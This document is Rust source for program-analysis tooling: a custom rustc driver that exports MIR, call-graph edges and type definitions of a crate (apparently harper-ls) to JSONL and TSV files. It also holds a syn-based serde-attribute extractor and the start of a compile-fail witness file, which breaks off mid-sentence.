                if let Some(ti) = tcx.associated_item(did).trait_item_def_id() {
                    let _ = write!(hdr, ",\"trait_item\":{}", esc(&qpath(tcx, ti)));
                }
            } else if matches!(tcx.def_kind(parent), DefKind::Trait) {
                let _ = write!(hdr, ",\"default_of_trait\":{}", esc(&qpath(tcx, parent)));
            }
        }
        if matches!(kind, DefKind::Fn | DefKind::AssocFn) {
            let _ = write!(hdr, ",\"vis\":{}", esc(&format!("{:?}", tcx.visibility(did))));
        }
        // locals
        let mut locals = vec![];
        for (l, d) in body.local_decls.iter_enumerated() {
            let id = self.ty_id(d.ty);
            locals.push(format!("[{},{}]", id, d.mutability.is_mut()));
        }
        let _ = write!(hdr, ",\"locals\":[{}]", locals.join(","));
        // debug names
        let mut dbg = vec![];
        for v in &body.var_debug_info {
            if let VarDebugInfoContents::Place(p) = &v.value {
                dbg.push(format!("[{},{}]", esc(v.name.as_str()), self.place(body, p)));
            }
        }
        let _ = write!(hdr, ",\"debug\":[{}]", dbg.join(","));
        // blocks
        let mut blocks = vec![];
        for (bb, data) in body.basic_blocks.iter_enumerated() {
            let mut stmts = vec![];
            for st in &data.statements {
                let ln = self.line(st.source_info.span);
                let cl = self.callsite_line(st.source_info.span);
                let exp = st.source_info.span.from_expansion();
                match &st.kind {
                    StatementKind::Assign(b) => {
                        let lhs = self.place(body, &b.0);
                        let rv = self.rvalue(body, env, &b.1);
                        stmts.push(format!("{{\"k\":\"assign\",\"lhs\":{},\"rv\":{},\"ln\":{},\"cl\":{},\"exp\":{}}}", lhs, rv, ln, cl, exp));
                        // edges from statements
                        match &b.1 {
                            Rvalue::Aggregate(k, _) => match &**k {
                                AggregateKind::Closure(d, _) | AggregateKind::Coroutine(d, _) | AggregateKind::CoroutineClosure(d, _) => {
                                    let _ = writeln!(edges, "K\t{}\t{}", ename, qpath(tcx, *d));
                                }
                                AggregateKind::Adt(d, ..) => {
                                    let _ = writeln!(edges, "A\t{}\t{}", ename, qpath(tcx, *d));
                                }
                                _ => {}
                            },
                            Rvalue::Cast(CastKind::PointerCoercion(pc, _), op, _to) => match pc {
                                PointerCoercion::ReifyFnPointer(_) | PointerCoercion::ClosureFnPointer(_) => {
                                    let t = op.ty(&body.local_decls, tcx);
                                    if let ty::FnDef(d, args) = t.kind() {
                                        let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| Instance::try_resolve(tcx, env, *d, args)));
                                        match r {
                                            Ok(Ok(Some(i))) => {
                                                self.note(i.def_id());
                                                let _ = writeln!(edges, "R\t{}\t{}", ename, qpath(tcx, i.def_id()));
                                            }
                                            _ => {
                                                let _ = writeln!(edges, "T\t{}\t{}\t<reify>", ename, qpath(tcx, *d));
                                            }
                                        }
                                    } else if let ty::Closure(d, _) = t.kind() {
                                        let _ = writeln!(edges, "R\t{}\t{}", ename, qpath(tcx, *d));
                                    }
                                }
                                PointerCoercion::Unsize => {
                                    let t = op.ty(&body.local_decls, tcx);
                                    let inner = match t.kind() {
                                        ty::Ref(_, i, _) => *i,
                                        ty::RawPtr(i, _) => *i,
                                        ty::Adt(_, a) if a.types().next().is_some() => a.type_at(0),
                                        _ => t,
                                    };
                                    let _ = writeln!(edges, "U\t{}\t{}", ename, ty_head(tcx, inner));
                                }
                                _ => {}
                            },
                            _ => {}
                        }
                        // fn items used as values (passed as arguments etc.)
                    }
                    StatementKind::SetDiscriminant { place, variant_index } => {
                        stmts.push(format!("{{\"k\":\"setdiscr\",\"lhs\":{},\"variant\":{},\"ln\":{}}}", self.place(body, place), variant_index.as_u32(), ln));
                    }
                    StatementKind::StorageDead(l) => {
                        stmts.push(format!("{{\"k\":\"dead\",\"l\":{}}}", l.as_u32()));
                    }
                    _ => {}
                }
            }
            let term = data.terminator();
            let ln = self.line(term.source_info.span);
            let cl = self.callsite_line(term.source_info.span);
            let exp = term.source_info.span.from_expansion();
            let tj = match &term.kind {
                TerminatorKind::Goto { target } => format!("{{\"k\":\"goto\",\"target\":{}}}", target.as_u32()),
                TerminatorKind::SwitchInt { discr, targets } => {
                    let ts: Vec<String> = targets.iter().map(|(v, t)| format!("[{},{}]", esc(&v.to_string()), t.as_u32())).collect();
                    format!("{{\"k\":\"switch\",\"discr\":{},\"targets\":[{}],\"otherwise\":{},\"ln\":{}}}", self.operand(body, env, discr), ts.join(","), targets.otherwise().as_u32(), ln)
                }
                TerminatorKind::Return => "{\"k\":\"return\"}".to_string(),
                TerminatorKind::Unreachable => "{\"k\":\"unreachable\"}".to_string(),
                TerminatorKind::UnwindResume | TerminatorKind::UnwindTerminate(_) => "{\"k\":\"resume\"}".to_string(),
                TerminatorKind::Drop { place, target, .. } => format!("{{\"k\":\"drop\",\"place\":{},\"target\":{}}}", self.place(body, place), target.as_u32()),
                TerminatorKind::Assert { cond, expected, msg, target, .. } => {
                    let mk = match &**msg {
                        AssertKind::BoundsCheck { len, index } => format!("\"msg\":\"bounds\",\"len\":{},\"index\":{}", self.operand(body, env, len), self.operand(body, env, index)),
                        AssertKind::Overflow(op, a, b) => format!("\"msg\":\"overflow\",\"op\":{},\"a\":{},\"b\":{}", esc(&format!("{:?}", op)), self.operand(body, env, a), self.operand(body, env, b)),
                        AssertKind::DivisionByZero(_) => "\"msg\":\"div0\"".to_string(),
                        AssertKind::RemainderByZero(_) => "\"msg\":\"rem0\"".to_string(),
                        other => format!("\"msg\":{}", esc(&format!("{:?}", other).chars().take(60).collect::<String>())),
                    };
                    format!("{{\"k\":\"assert\",\"cond\":{},\"expected\":{},{},\"target\":{},\"ln\":{}}}", self.operand(body, env, cond), expected, mk, target.as_u32(), ln)
                }
                TerminatorKind::Yield { value, resume, drop, .. } => {
                    format!("{{\"k\":\"yield\",\"resume\":{},\"drop\":{}}}", resume.as_u32(), drop.map(|d| d.as_u32().to_string()).unwrap_or("null".into()))
                }
                TerminatorKind::CoroutineDrop => "{\"k\":\"coroutine_drop\"}".to_string(),
                TerminatorKind::FalseEdge { real_target, .. } => format!("{{\"k\":\"goto\",\"target\":{}}}", real_target.as_u32()),
                TerminatorKind::FalseUnwind { real_target, .. } => format!("{{\"k\":\"goto\",\"target\":{}}}", real_target.as_u32()),
                TerminatorKind::Call { func, args, destination, target, .. } => {
                    let argsj: Vec<String> = args.iter().map(|a| self.operand(body, env, &a.node)).collect();
                    let fj = match func {
                        Operand::Constant(c) => {
                            if let ty::FnDef(cd, cargs) = c.const_.ty().kind() {
                                // edges
                                let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| Instance::try_resolve(tcx, env, *cd, cargs)));
                                match r {
                                    Ok(Ok(Some(i))) => {
                                        if matches!(i.def, ty::InstanceKind::Virtual(..)) {
                                            self.note(*cd);
                                            let _ = writeln!(edges, "T\t{}\t{}\t<dyn>", ename, qpath(tcx, *cd));
                                        } else {
                                            self.note(i.def_id());
                                            let _ = writeln!(edges, "C\t{}\t{}", ename, qpath(tcx, i.def_id()));
                                        }
                                    }
                                    _ => {
                                        let recv = cargs.types().next().map(|t| ty_head(tcx, t)).unwrap_or_default();
                                        self.note(*cd);
                                        let _ = writeln!(edges, "T\t{}\t{}\t{}", ename, qpath(tcx, *cd), recv);
                                    }
                                }
                                self.fn_ref(env, *cd, cargs)
                            } else {
                                "{\"other\":true}".to_string()
                            }
                        }
                        Operand::Copy(p) | Operand::Move(p) => {
                            let _ = writeln!(edges, "P\t{}", ename);
                            format!("{{\"ptr\":{}}}", self.place(body, p))
                        }
                        _ => "{\"other\":true}".to_string(),
                    };
                    // fn items passed as arguments: reification-like edges
                    for a in args.iter() {
                        if let Operand::Constant(c) = &a.node {
                            if let ty::FnDef(d, fargs) = c.const_.ty().kind() {
                                let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| Instance::try_resolve(tcx, env, *d, fargs)));
                                match r {
                                    Ok(Ok(Some(i))) => {
                                        self.note(i.def_id());
                                                let _ = writeln!(edges, "R\t{}\t{}", ename, qpath(tcx, i.def_id()));
                                    }
                                    _ => {
                                        let _ = writeln!(edges, "T\t{}\t{}\t<reify>", ename, qpath(tcx, *d));
                                    }
                                }
                            }
                        }
                    }
                    format!(
                        "{{\"k\":\"call\",\"f\":{},\"args\":[{}],\"dest\":{},\"target\":{},\"ln\":{},\"cl\":{},\"exp\":{}}}",
                        fj,
                        argsj.join(","),
                        self.place(body, destination),
                        target.map(|t| t.as_u32().to_string()).unwrap_or("null".into()),
                        ln,
                        cl,
                        exp
                    )
                }
                TerminatorKind::TailCall { .. } => "{\"k\":\"tailcall\"}".to_string(),
                TerminatorKind::InlineAsm { .. } => {
                    let _ = writeln!(edges, "X\t{}\tinline_asm", ename);
                    "{\"k\":\"asm\"}".to_string()
                }
            };
            blocks.push(format!("{{\"s\":[{}],\"t\":{},\"cleanup\":{}}}", stmts.join(","), tj, data.is_cleanup));
        }
        let _ = write!(hdr, ",\"blocks\":[{}]}}", blocks.join(","));
        out.push_str(&hdr);
        out.push('\n');
    }

    /// for every function that calls OpenOptions::open: which builder methods it calls
    fn open_options_summary(&mut self, did: DefId, body: &Body<'tcx>, edges: &mut String) {
        let tcx = self.tcx;
        let mut methods: Vec<String> = vec![];
        let mut opens = false;
        for data in body.basic_blocks.iter() {
            if let Some(term) = &data.terminator {
                if let TerminatorKind::Call { func, args, .. } = &term.kind {
                    if let Operand::Constant(c) = func {
                        if let ty::FnDef(cd, _) = c.const_.ty().kind() {
                            let p = tcx.def_path_str(*cd);
                            if p.contains("OpenOptions") {
                                let m = p.rsplit("::").next().unwrap_or("").to_string();
                                if m == "open" {
                                    opens = true;
                                }
                                // boolean builder flags: record the constant argument when present
                                let mut val = String::new();
                                if let Some(a) = args.get(1) {
                                    if let Operand::Constant(k) = &a.node {
                                        val = format!("={}", k.const_);
                                    } else {
                                        val = "=?".to_string();
                                    }
                                }
                                methods.push(format!("{}{}", m, val));
                            }
                        }
                    }
                }
            }
        }
        if opens {
            let _ = writeln!(edges, "O\t{}\t{}", qpath(tcx, did), methods.join(","));
        }
    }

    /// call-graph facts only (dependency crates)
    fn dump_edges_only(&mut self, did: DefId, body: &Body<'tcx>, edges: &mut String) {
        let tcx = self.tcx;
        let env = TypingEnv::post_analysis(tcx, did);
        let name = qpath(tcx, did);
        const_refs(tcx, body, &name, edges);
        for data in body.basic_blocks.iter() {
            for st in &data.statements {
                if let StatementKind::Assign(b) = &st.kind {
                    match &b.1 {
                        Rvalue::Aggregate(k, _) => match &**k {
                            AggregateKind::Closure(d, _) | AggregateKind::Coroutine(d, _) | AggregateKind::CoroutineClosure(d, _) => {
                                let _ = writeln!(edges, "K\t{}\t{}", name, qpath(tcx, *d));
                            }
                            AggregateKind::Adt(d, ..) => {
                                let _ = writeln!(edges, "A\t{}\t{}", name, qpath(tcx, *d));
                            }
                            _ => {}
                        },
                        Rvalue::Cast(CastKind::PointerCoercion(pc, _), op, _to) => match pc {
                            PointerCoercion::ReifyFnPointer(_) | PointerCoercion::ClosureFnPointer(_) => {
                                let t = op.ty(&body.local_decls, tcx);
                                if let ty::FnDef(d, args) = t.kind() {
                                    let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| Instance::try_resolve(tcx, env, *d, args)));
                                    match r {
                                        Ok(Ok(Some(i))) => {
                                            self.note(i.def_id());
                                                let _ = writeln!(edges, "R\t{}\t{}", name, qpath(tcx, i.def_id()));
                                        }
                                        _ => {
                                            let _ = writeln!(edges, "T\t{}\t{}\t<reify>", name, qpath(tcx, *d));
                                        }
                                    }
                                } else if let ty::Closure(d, _) = t.kind() {
                                    let _ = writeln!(edges, "R\t{}\t{}", name, qpath(tcx, *d));
                                }
                            }
                            PointerCoercion::Unsize => {
                                let t = op.ty(&body.local_decls, tcx);
                                let inner = match t.kind() {
                                    ty::Ref(_, i, _) => *i,
                                    ty::RawPtr(i, _) => *i,
                                    ty::Adt(_, a) if a.types().next().is_some() => a.type_at(0),
                                    _ => t,
                                };
                                let _ = writeln!(edges, "U\t{}\t{}", name, ty_head(tcx, inner));
                            }
                            _ => {}
                        },
                        _ => {}
                    }
                }
            }
            if let Some(term) = &data.terminator {
                match &term.kind {
                    TerminatorKind::Call { func, args, .. } | TerminatorKind::TailCall { func, args, .. } => {
                        if let Operand::Constant(c) = func {
                            if let ty::FnDef(cd, cargs) = c.const_.ty().kind() {
                                let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| Instance::try_resolve(tcx, env, *cd, cargs)));
                                match r {
                                    Ok(Ok(Some(i))) => {
                                        if matches!(i.def, ty::InstanceKind::Virtual(..)) {
                                            self.note(*cd);
                                            let _ = writeln!(edges, "T\t{}\t{}\t<dyn>", name, qpath(tcx, *cd));
                                        } else {
                                            self.note(i.def_id());
                                            let _ = writeln!(edges, "C\t{}\t{}", name, qpath(tcx, i.def_id()));
                                        }
                                    }
                                    _ => {
                                        let recv = cargs.types().next().map(|t| ty_head(tcx, t)).unwrap_or_default();
                                        self.note(*cd);
                                        let _ = writeln!(edges, "T\t{}\t{}\t{}", name, qpath(tcx, *cd), recv);
                                    }
                                }
                            }
                        } else {
                            let _ = writeln!(edges, "P\t{}", name);
                        }
                        for a in args.iter() {
                            if let Operand::Constant(c) = &a.node {
                                if let ty::FnDef(d, fargs) = c.const_.ty().kind() {
                                    let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| Instance::try_resolve(tcx, env, *d, fargs)));
                                    match r {
                                        Ok(Ok(Some(i))) => {
                                            self.note(i.def_id());
                                                let _ = writeln!(edges, "R\t{}\t{}", name, qpath(tcx, i.def_id()));
                                        }
                                        _ => {
                                            let _ = writeln!(edges, "T\t{}\t{}\t<reify>", name, qpath(tcx, *d));
                                        }
                                    }
                                }
                            }
                        }
                    }
                    TerminatorKind::InlineAsm { .. } => {
                        let _ = writeln!(edges, "X\t{}\tinline_asm", name);
                    }
                    _ => {}
                }
            }
        }
    }
}

// ---- pre-StateTransform MIR of coroutines ------------------------------------------------------
// rustc's own analysis computes `optimized_mir` of every coroutine (layout checks), which steals
// the drop-elaborated MIR before `after_analysis` runs.  The async handlers of harper-ls are far
// easier to analyse before the state-machine transform (awaits are `Yield`s, locals stay locals),
// so the provider of `mir_drops_elaborated_and_const_checked` is wrapped: it runs the original
// provider and keeps a clone of the body of every coroutine.
/// references from a body to const items and statics (so that "what does this function reach" sees the
/// pattern constructors behind `thread_local!` / `lazy_static!` constants)
struct ConstRefs<'a, 'tcx> {
    tcx: TyCtxt<'tcx>,
    name: &'a str,
    edges: &'a mut String,
}

impl<'a, 'tcx> rustc_middle::mir::visit::Visitor<'tcx> for ConstRefs<'a, 'tcx> {
    fn visit_const_operand(&mut self, c: &ConstOperand<'tcx>, _loc: Location) {
        if let Const::Unevaluated(uv, _) = c.const_ {
            if uv.promoted.is_none() {
                let _ = writeln!(self.edges, "C\t{}\t{}", self.name, qpath(self.tcx, uv.def));
            }
        }
        if let Some(sd) = c.check_static_ptr(self.tcx) {
            let _ = writeln!(self.edges, "C\t{}\t{}", self.name, qpath(self.tcx, sd));
        }
    }
}

fn const_refs<'tcx>(tcx: TyCtxt<'tcx>, body: &Body<'tcx>, name: &str, edges: &mut String) {
    use rustc_middle::mir::visit::Visitor;
    let mut v = ConstRefs { tcx, name, edges };
    v.visit_body(body);
}

use std::cell::RefCell;
use rustc_hir::def_id::LocalDefId;
use rustc_data_structures::steal::Steal;
thread_local! {
    static STASH: RefCell<Vec<(LocalDefId, *const ())>> = RefCell::new(Vec::new());
}
type PromotedRet<'tcx> = (&'tcx Steal<Body<'tcx>>, &'tcx Steal<rustc_index::IndexVec<Promoted, Body<'tcx>>>);
static mut ORIG_PROMOTED: Option<for<'tcx> fn(TyCtxt<'tcx>, LocalDefId) -> PromotedRet<'tcx>> = None;

fn promoted_wrapper<'tcx>(tcx: TyCtxt<'tcx>, def: LocalDefId) -> PromotedRet<'tcx> {
    let orig = unsafe { ORIG_PROMOTED.unwrap() };
    let r = orig(tcx, def);
    if tcx.coroutine_kind(def.to_def_id()).is_some() && std::env::var("CARGO_PRIMARY_PACKAGE").is_ok() {
        let cloned: Body<'tcx> = r.0.borrow().clone();
        let raw: *mut Body<'tcx> = Box::into_raw(Box::new(cloned));
        STASH.with(|s| s.borrow_mut().push((def, raw as *const ())));
    }
    r
}

struct Cb {
    meta: String,
    primary: bool,
}

impl rustc_driver::Callbacks for Cb {
    fn config(&mut self, config: &mut rustc_interface::interface::Config) {
        config.override_queries = Some(|_sess, providers| {
            unsafe {
                ORIG_PROMOTED = Some(providers.queries.mir_promoted);
            }
            providers.queries.mir_promoted = promoted_wrapper;
        });
    }

    fn after_analysis<'tcx>(&mut self, _c: &Compiler, tcx: TyCtxt<'tcx>) -> Compilation {
        let krate = tcx.crate_name(LOCAL_CRATE).to_string();
        let ctypes = tcx.crate_types();
        let is_proc_macro = ctypes.iter().any(|t| matches!(t, rustc_session::config::CrateType::ProcMacro));
        if is_proc_macro || krate.starts_with("build_script_") {
            return Compilation::Continue;
        }
        let dir = match std::env::var("HF_OUT") {
            Ok(d) => d,
            Err(_) => return Compilation::Continue,
        };
        let mut cx = Cx { tcx, tys: HashMap::new(), ty_lines: vec![], named: Default::default(), names: String::new() };
        let mut edges = String::new();
        let mut out = String::new();
        let is_bin = ctypes.iter().any(|t| matches!(t, rustc_session::config::CrateType::Executable));
        let _ = writeln!(edges, "M\t{}\t{}\t{}\t{}", krate, self.meta, if self.primary { "primary" } else { "dep" }, if is_bin { "bin" } else { "lib" });

        // impl tables (for class-hierarchy resolution)
        for (trait_id, impls) in tcx.all_local_trait_impls(()) {
            for impl_id in impls {
                let impl_did = impl_id.to_def_id();
                let self_ty = tcx.type_of(impl_did).instantiate_identity().skip_norm_wip();
                let head = ty_head(tcx, self_ty);
                let mut items = vec![];
                for item in tcx.associated_items(impl_did).in_definition_order() {
                    if let Some(tr_item) = item.trait_item_def_id() {
                        if matches!(tcx.def_kind(item.def_id), DefKind::AssocFn) {
                            let _ = writeln!(edges, "I\t{}\t{}\t{}", qpath(tcx, tr_item), head, qpath(tcx, item.def_id));
                            items.push(format!("[{},{}]", esc(&qpath(tcx, tr_item)), esc(&qpath(tcx, item.def_id))));
                        }
                    }
                }
                if self.primary {
                    let sid = cx.ty_id(self_ty);
                    let _ = writeln!(
                        out,
                        "{{\"t\":\"impl\",\"trait\":{},\"self\":{},\"self_head\":{},\"derived\":{},\"items\":[{}],\"span\":{},\"id\":{}}}",
                        esc(&qpath(tcx, *trait_id)),
                        sid,
                        esc(&head),
                        tcx.is_automatically_derived(impl_did),
                        items.join(","),
                        esc(&cx.span_str(tcx.def_span(impl_did))),
                        esc(&qpath(tcx, impl_did))
                    );
                }
            }
        }
        // extern (foreign) items declared by this crate: leaves without MIR
        for id in tcx.hir_crate_items(()).foreign_items() {
            let did = id.owner_id.to_def_id();
            if matches!(tcx.def_kind(did), DefKind::Fn) {
                let _ = writeln!(edges, "E\t{}\t{}", qpath(tcx, did), tcx.def_path_str(did));
            }
        }

        for def in tcx.hir_body_owners() {
            let did = def.to_def_id();
            let kind = tcx.def_kind(did);
            match kind {
                DefKind::Fn | DefKind::AssocFn | DefKind::Closure => {}
                DefKind::Static { .. } => {
                    if self.primary {
                        let t = tcx.type_of(did).instantiate_identity().skip_norm_wip();
                        let tid = cx.ty_id(t);
                        let _ = writeln!(
                            out,
                            "{{\"t\":\"static\",\"name\":{},\"ty\":{},\"mut\":{},\"span\":{}}}",
                            esc(&qpath(tcx, did)),
                            tid,
                            tcx.is_mutable_static(did),
                            esc(&cx.span_str(tcx.def_span(did)))
                        );
                    }
                    let _ = writeln!(edges, "S\t{}", qpath(tcx, did));
                    {
                        // functions referenced from the initializer (fn pointers, closures in lazy statics)
                        let b = tcx.mir_for_ctfe(did);
                        cx.dump_edges_only(did, b, &mut edges);
                    }
                    if self.primary {
                        // the initializer body (so that rules can read constant initial values)
                        let body = tcx.mir_for_ctfe(did);
                        let mut dummy = String::new();
                        cx.dump_body(did, body, "ctfe", &mut out, &mut dummy);
                    }
                    continue;
                }
                DefKind::Const { .. } | DefKind::AssocConst { .. } | DefKind::InlineConst => {
                    // constants may hold function pointers / closures: their bodies are extra roots
                    let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
                        let b = tcx.mir_for_ctfe(did);
                        let mut e2 = String::new();
                        cx.dump_edges_only(did, b, &mut e2);
                        e2
                    }));
                    if let Ok(e2) = r {
                        if !e2.is_empty() {
                            let _ = writeln!(edges, "S\t{}", qpath(tcx, did));
                            edges.push_str(&e2);
                        }
                    }
                    continue;
                }
                _ => continue,
            }
            let name = qpath(tcx, did);
            let _ = writeln!(edges, "F\t{}\t{}", name, tcx.def_path_str(did));
            if self.primary {
                let is_coroutine = tcx.coroutine_kind(did).is_some();
                let mut done = false;
                if is_coroutine {
                    let stashed: Option<*const ()> = STASH.with(|s| s.borrow().iter().find(|(d, _)| *d == def).map(|(_, p)| *p));
                    if let Some(ptr) = stashed {
                        let b: &Body<'tcx> = unsafe { &*(ptr as *const Body<'tcx>) };
                        cx.dump_body(did, b, "promoted", &mut out, &mut edges);
                        cx.open_options_summary(did, b, &mut edges);
                        done = true;
                    }
                }
                if !done {
                    let body = tcx.optimized_mir(did);
                    cx.dump_body(did, body, "opt", &mut out, &mut edges);
                    cx.open_options_summary(did, body, &mut edges);
                }
                // promoted constants (`&"literal"`, `&[..]` temporaries): small bodies of their own
                let proms = tcx.promoted_mir(did);
                for (pi, pb) in proms.iter_enumerated() {
                    cx.dump_body_named(did, pb, "promoted-const", &mut out, &mut edges, Some(format!("promoted[{}]", pi.as_u32())));
                }
            } else {
                let body = tcx.optimized_mir(did);
                cx.dump_edges_only(did, body, &mut edges);
                cx.open_options_summary(did, body, &mut edges);
                for pb in tcx.promoted_mir(did).iter() {
                    cx.dump_edges_only(did, pb, &mut edges);
                }
            }
        }

        if self.primary {
            // ADT definitions of this crate
            for id in tcx.hir_crate_items(()).definitions() {
                let did = id.to_def_id();
                if !matches!(tcx.def_kind(did), DefKind::Struct | DefKind::Enum | DefKind::Union) {
                    continue;
                }
                let adt = tcx.adt_def(did);
                let mut variants = vec![];
                for (vi, v) in adt.variants().iter_enumerated() {
                    let mut fields = vec![];
                    for f in v.fields.iter() {
                        let ft = tcx.type_of(f.did).instantiate_identity().skip_norm_wip();
                        let fid = cx.ty_id(ft);
                        fields.push(format!("{{\"name\":{},\"ty\":{},\"ln\":{}}}", esc(f.name.as_str()), fid, cx.line(tcx.def_span(f.did))));
                    }
                    let discr = if adt.is_enum() { adt.discriminant_for_variant(tcx, vi).val.to_string() } else { "0".to_string() };
                    variants.push(format!("{{\"name\":{},\"idx\":{},\"discr\":{},\"fields\":[{}]}}", esc(v.name.as_str()), vi.as_u32(), esc(&discr), fields.join(",")));
                }
                let kind = if adt.is_enum() {
                    "enum"
                } else if adt.is_union() {
                    "union"
                } else {
                    "struct"
                };
                let _ = writeln!(
                    out,
                    "{{\"t\":\"adt\",\"name\":{},\"pretty\":{},\"kind\":\"{}\",\"variants\":[{}],\"span\":{}}}",
                    esc(&qpath(tcx, did)),
                    esc(&tcx.def_path_str(did)),
                    kind,
                    variants.join(","),
                    esc(&cx.span_str(tcx.def_span(did)))
                );
            }
            // variant names of foreign enums that occur in this crate's types (for decision tables
            // over e.g. pulldown_cmark::Event / Tag)
            let mut ext: Vec<DefId> = cx.tys.keys().filter_map(|t| match t.kind() { ty::Adt(a, _) if !a.did().is_local() && a.is_enum() => Some(a.did()), _ => None }).collect();
            let mut seen_ext = std::collections::HashSet::new();
            ext.retain(|d| seen_ext.insert(*d));
            let mut ext: Vec<(String, DefId)> = ext.into_iter().map(|d| (qpath(tcx, d), d)).collect();
            ext.sort_by(|a, b| a.0.cmp(&b.0));
            for (_, did) in ext {
                let adt = tcx.adt_def(did);
                let mut vs = vec![];
                for (vi, v) in adt.variants().iter_enumerated() {
                    let discr = adt.discriminant_for_variant(tcx, vi).val.to_string();
                    vs.push(format!("{{\"name\":{},\"idx\":{},\"discr\":{}}}", esc(v.name.as_str()), vi.as_u32(), esc(&discr)));
                }
                let _ = writeln!(out, "{{\"t\":\"adt_ext\",\"name\":{},\"variants\":[{}]}}", esc(&qpath(tcx, did)), vs.join(","));
            }
            // trait definitions (method lists) of this crate
            for id in tcx.hir_crate_items(()).definitions() {
                let did = id.to_def_id();
                if !matches!(tcx.def_kind(did), DefKind::Trait) {
                    continue;
                }
                let mut items = vec![];
                for it in tcx.associated_items(did).in_definition_order() {
                    if matches!(tcx.def_kind(it.def_id), DefKind::AssocFn) {
                        items.push(format!("[{},{}]", esc(&qpath(tcx, it.def_id)), tcx.defaultness(it.def_id).has_value()));
                    }
                }
                let _ = writeln!(out, "{{\"t\":\"trait\",\"name\":{},\"items\":[{}]}}", esc(&qpath(tcx, did)), items.join(","));
            }
        }

        edges.push_str(&cx.names);
        std::fs::create_dir_all(&dir).ok();
        let base = format!("{}/{}-{}", dir, krate, self.meta);
        {
            let mut f = std::fs::File::create(format!("{}.edges.tsv.tmp", base)).unwrap();
            f.write_all(edges.as_bytes()).unwrap();
        }
        std::fs::rename(format!("{}.edges.tsv.tmp", base), format!("{}.edges.tsv", base)).unwrap();
        if self.primary {
            let mut all = String::with_capacity(out.len() + 1024);
            let _ = writeln!(all, "{{\"t\":\"crate\",\"name\":{},\"meta\":{},\"bin\":{}}}", esc(&krate), esc(&self.meta), is_bin);
            for l in &cx.ty_lines {
                all.push_str(l);
                all.push('\n');
            }
            all.push_str(&out);
            {
                let mut f = std::fs::File::create(format!("{}.mir.jsonl.tmp", base)).unwrap();
                f.write_all(all.as_bytes()).unwrap();
            }
            std::fs::rename(format!("{}.mir.jsonl.tmp", base), format!("{}.mir.jsonl", base)).unwrap();
        }
        Compilation::Continue
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    // cargo probes the compiler with `rustc -vV` / `--print`; pass those straight through.
    let mut meta = String::from("nometa");
    let mut i = 0;
    while i < args.len() {
        if args[i] == "-C" && i + 1 < args.len() {
            if let Some(m) = args[i + 1].strip_prefix("extra-filename=-") {
                meta = m.to_string();
            }
        } else if let Some(m) = args[i].strip_prefix("-Cextra-filename=-") {
            meta = m.to_string();
        }
        i += 1;
    }
    let primary = std::env::var("CARGO_PRIMARY_PACKAGE").is_ok();
    let mut cb = Cb { meta, primary };
    rustc_driver::run_compiler(&args, &mut cb);
}
