// serde-attrs <file.rs>... : prints one JSON line per struct/enum with its derive list and every
// #[serde(..)] attribute on the container, its variants and its fields (derive-helper attributes
// are not kept in rustc's HIR, so they are read from source; everything else about the types
// comes from the compiler facts).  Joined with the compiler's ADT records on (file, line).
use quote::ToTokens;
use syn::visit::Visit;

fn esc(s: &str) -> String {
    let mut o = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => o.push_str("\\\""),
            '\\' => o.push_str("\\\\"),
            '\n' => o.push_str("\\n"),
            c if (c as u32) < 0x20 => o.push(' '),
            c => o.push(c),
        }
    }
    o.push('"');
    o
}

struct V {
    file: String,
}

fn attrs_of(attrs: &[syn::Attribute], what: &str) -> Vec<String> {
    let mut out = vec![];
    for a in attrs {
        if a.path().is_ident(what) {
            if let syn::Meta::List(l) = &a.meta {
                out.push(l.tokens.to_string());
            }
        }
    }
    out
}

fn list(v: &[String]) -> String {
    format!("[{}]", v.iter().map(|s| esc(s)).collect::<Vec<_>>().join(","))
}

impl V {
    fn fields(&self, fields: &syn::Fields) -> String {
        let mut out = vec![];
        for (i, f) in fields.iter().enumerate() {
            let name = f.ident.as_ref().map(|i| i.to_string()).unwrap_or(i.to_string());
            out.push(format!("{{\"name\":{},\"serde\":{}}}", esc(&name), list(&attrs_of(&f.attrs, "serde"))));
        }
        format!("[{}]", out.join(","))
    }
}

impl<'ast> Visit<'ast> for V {
    fn visit_item_struct(&mut self, i: &'ast syn::ItemStruct) {
        let line = i.ident.span().start().line;
        println!(
            "{{\"file\":{},\"name\":{},\"line\":{},\"kind\":\"struct\",\"derive\":{},\"serde\":{},\"variants\":[{{\"name\":{},\"serde\":[],\"fields\":{}}}]}}",
            esc(&self.file),
            esc(&i.ident.to_string()),
            line,
            list(&attrs_of(&i.attrs, "derive")),
            list(&attrs_of(&i.attrs, "serde")),
            esc(&i.ident.to_string()),
            self.fields(&i.fields)
        );
        syn::visit::visit_item_struct(self, i);
    }
    fn visit_item_enum(&mut self, i: &'ast syn::ItemEnum) {
        let line = i.ident.span().start().line;
        let mut vs = vec![];
        for v in &i.variants {
            vs.push(format!("{{\"name\":{},\"serde\":{},\"fields\":{}}}", esc(&v.ident.to_string()), list(&attrs_of(&v.attrs, "serde")), self.fields(&v.fields)));
        }
        println!(
            "{{\"file\":{},\"name\":{},\"line\":{},\"kind\":\"enum\",\"derive\":{},\"serde\":{},\"variants\":[{}]}}",
            esc(&self.file),
            esc(&i.ident.to_string()),
            line,
            list(&attrs_of(&i.attrs, "derive")),
            list(&attrs_of(&i.attrs, "serde")),
            vs.join(",")
        );
        syn::visit::visit_item_enum(self, i);
    }
}

fn main() {
    for path in std::env::args().skip(1) {
        let src = match std::fs::read_to_string(&path) {
            Ok(s) => s,
            Err(e) => {
                eprintln!("cannot read {}: {}", path, e);
                std::process::exit(2);
            }
        };
        match syn::parse_file(&src) {
            Ok(f) => {
                let mut v = V { file: path.clone() };
                v.visit_file(&f);
            }
            Err(e) => {
                eprintln!("cannot parse {}: {}", path, e);
                std::process::exit(2);
            }
        }
    }
}
