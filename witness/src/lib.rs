//! Compile-fail witnesses (type-level part of C11's independence lemma).
//!
//! Run with `cargo +nightly test --doc` (the error code in `compile_fail,E....` is only honoured on
//! nightly).  Each witness has a compiling twin that differs only in the offending line, so that a
//! witness whose paths are merely wrong cannot pass by failing for another reason.

/// A rule receives the document by shared reference: it cannot obtain mutable access to it, so one
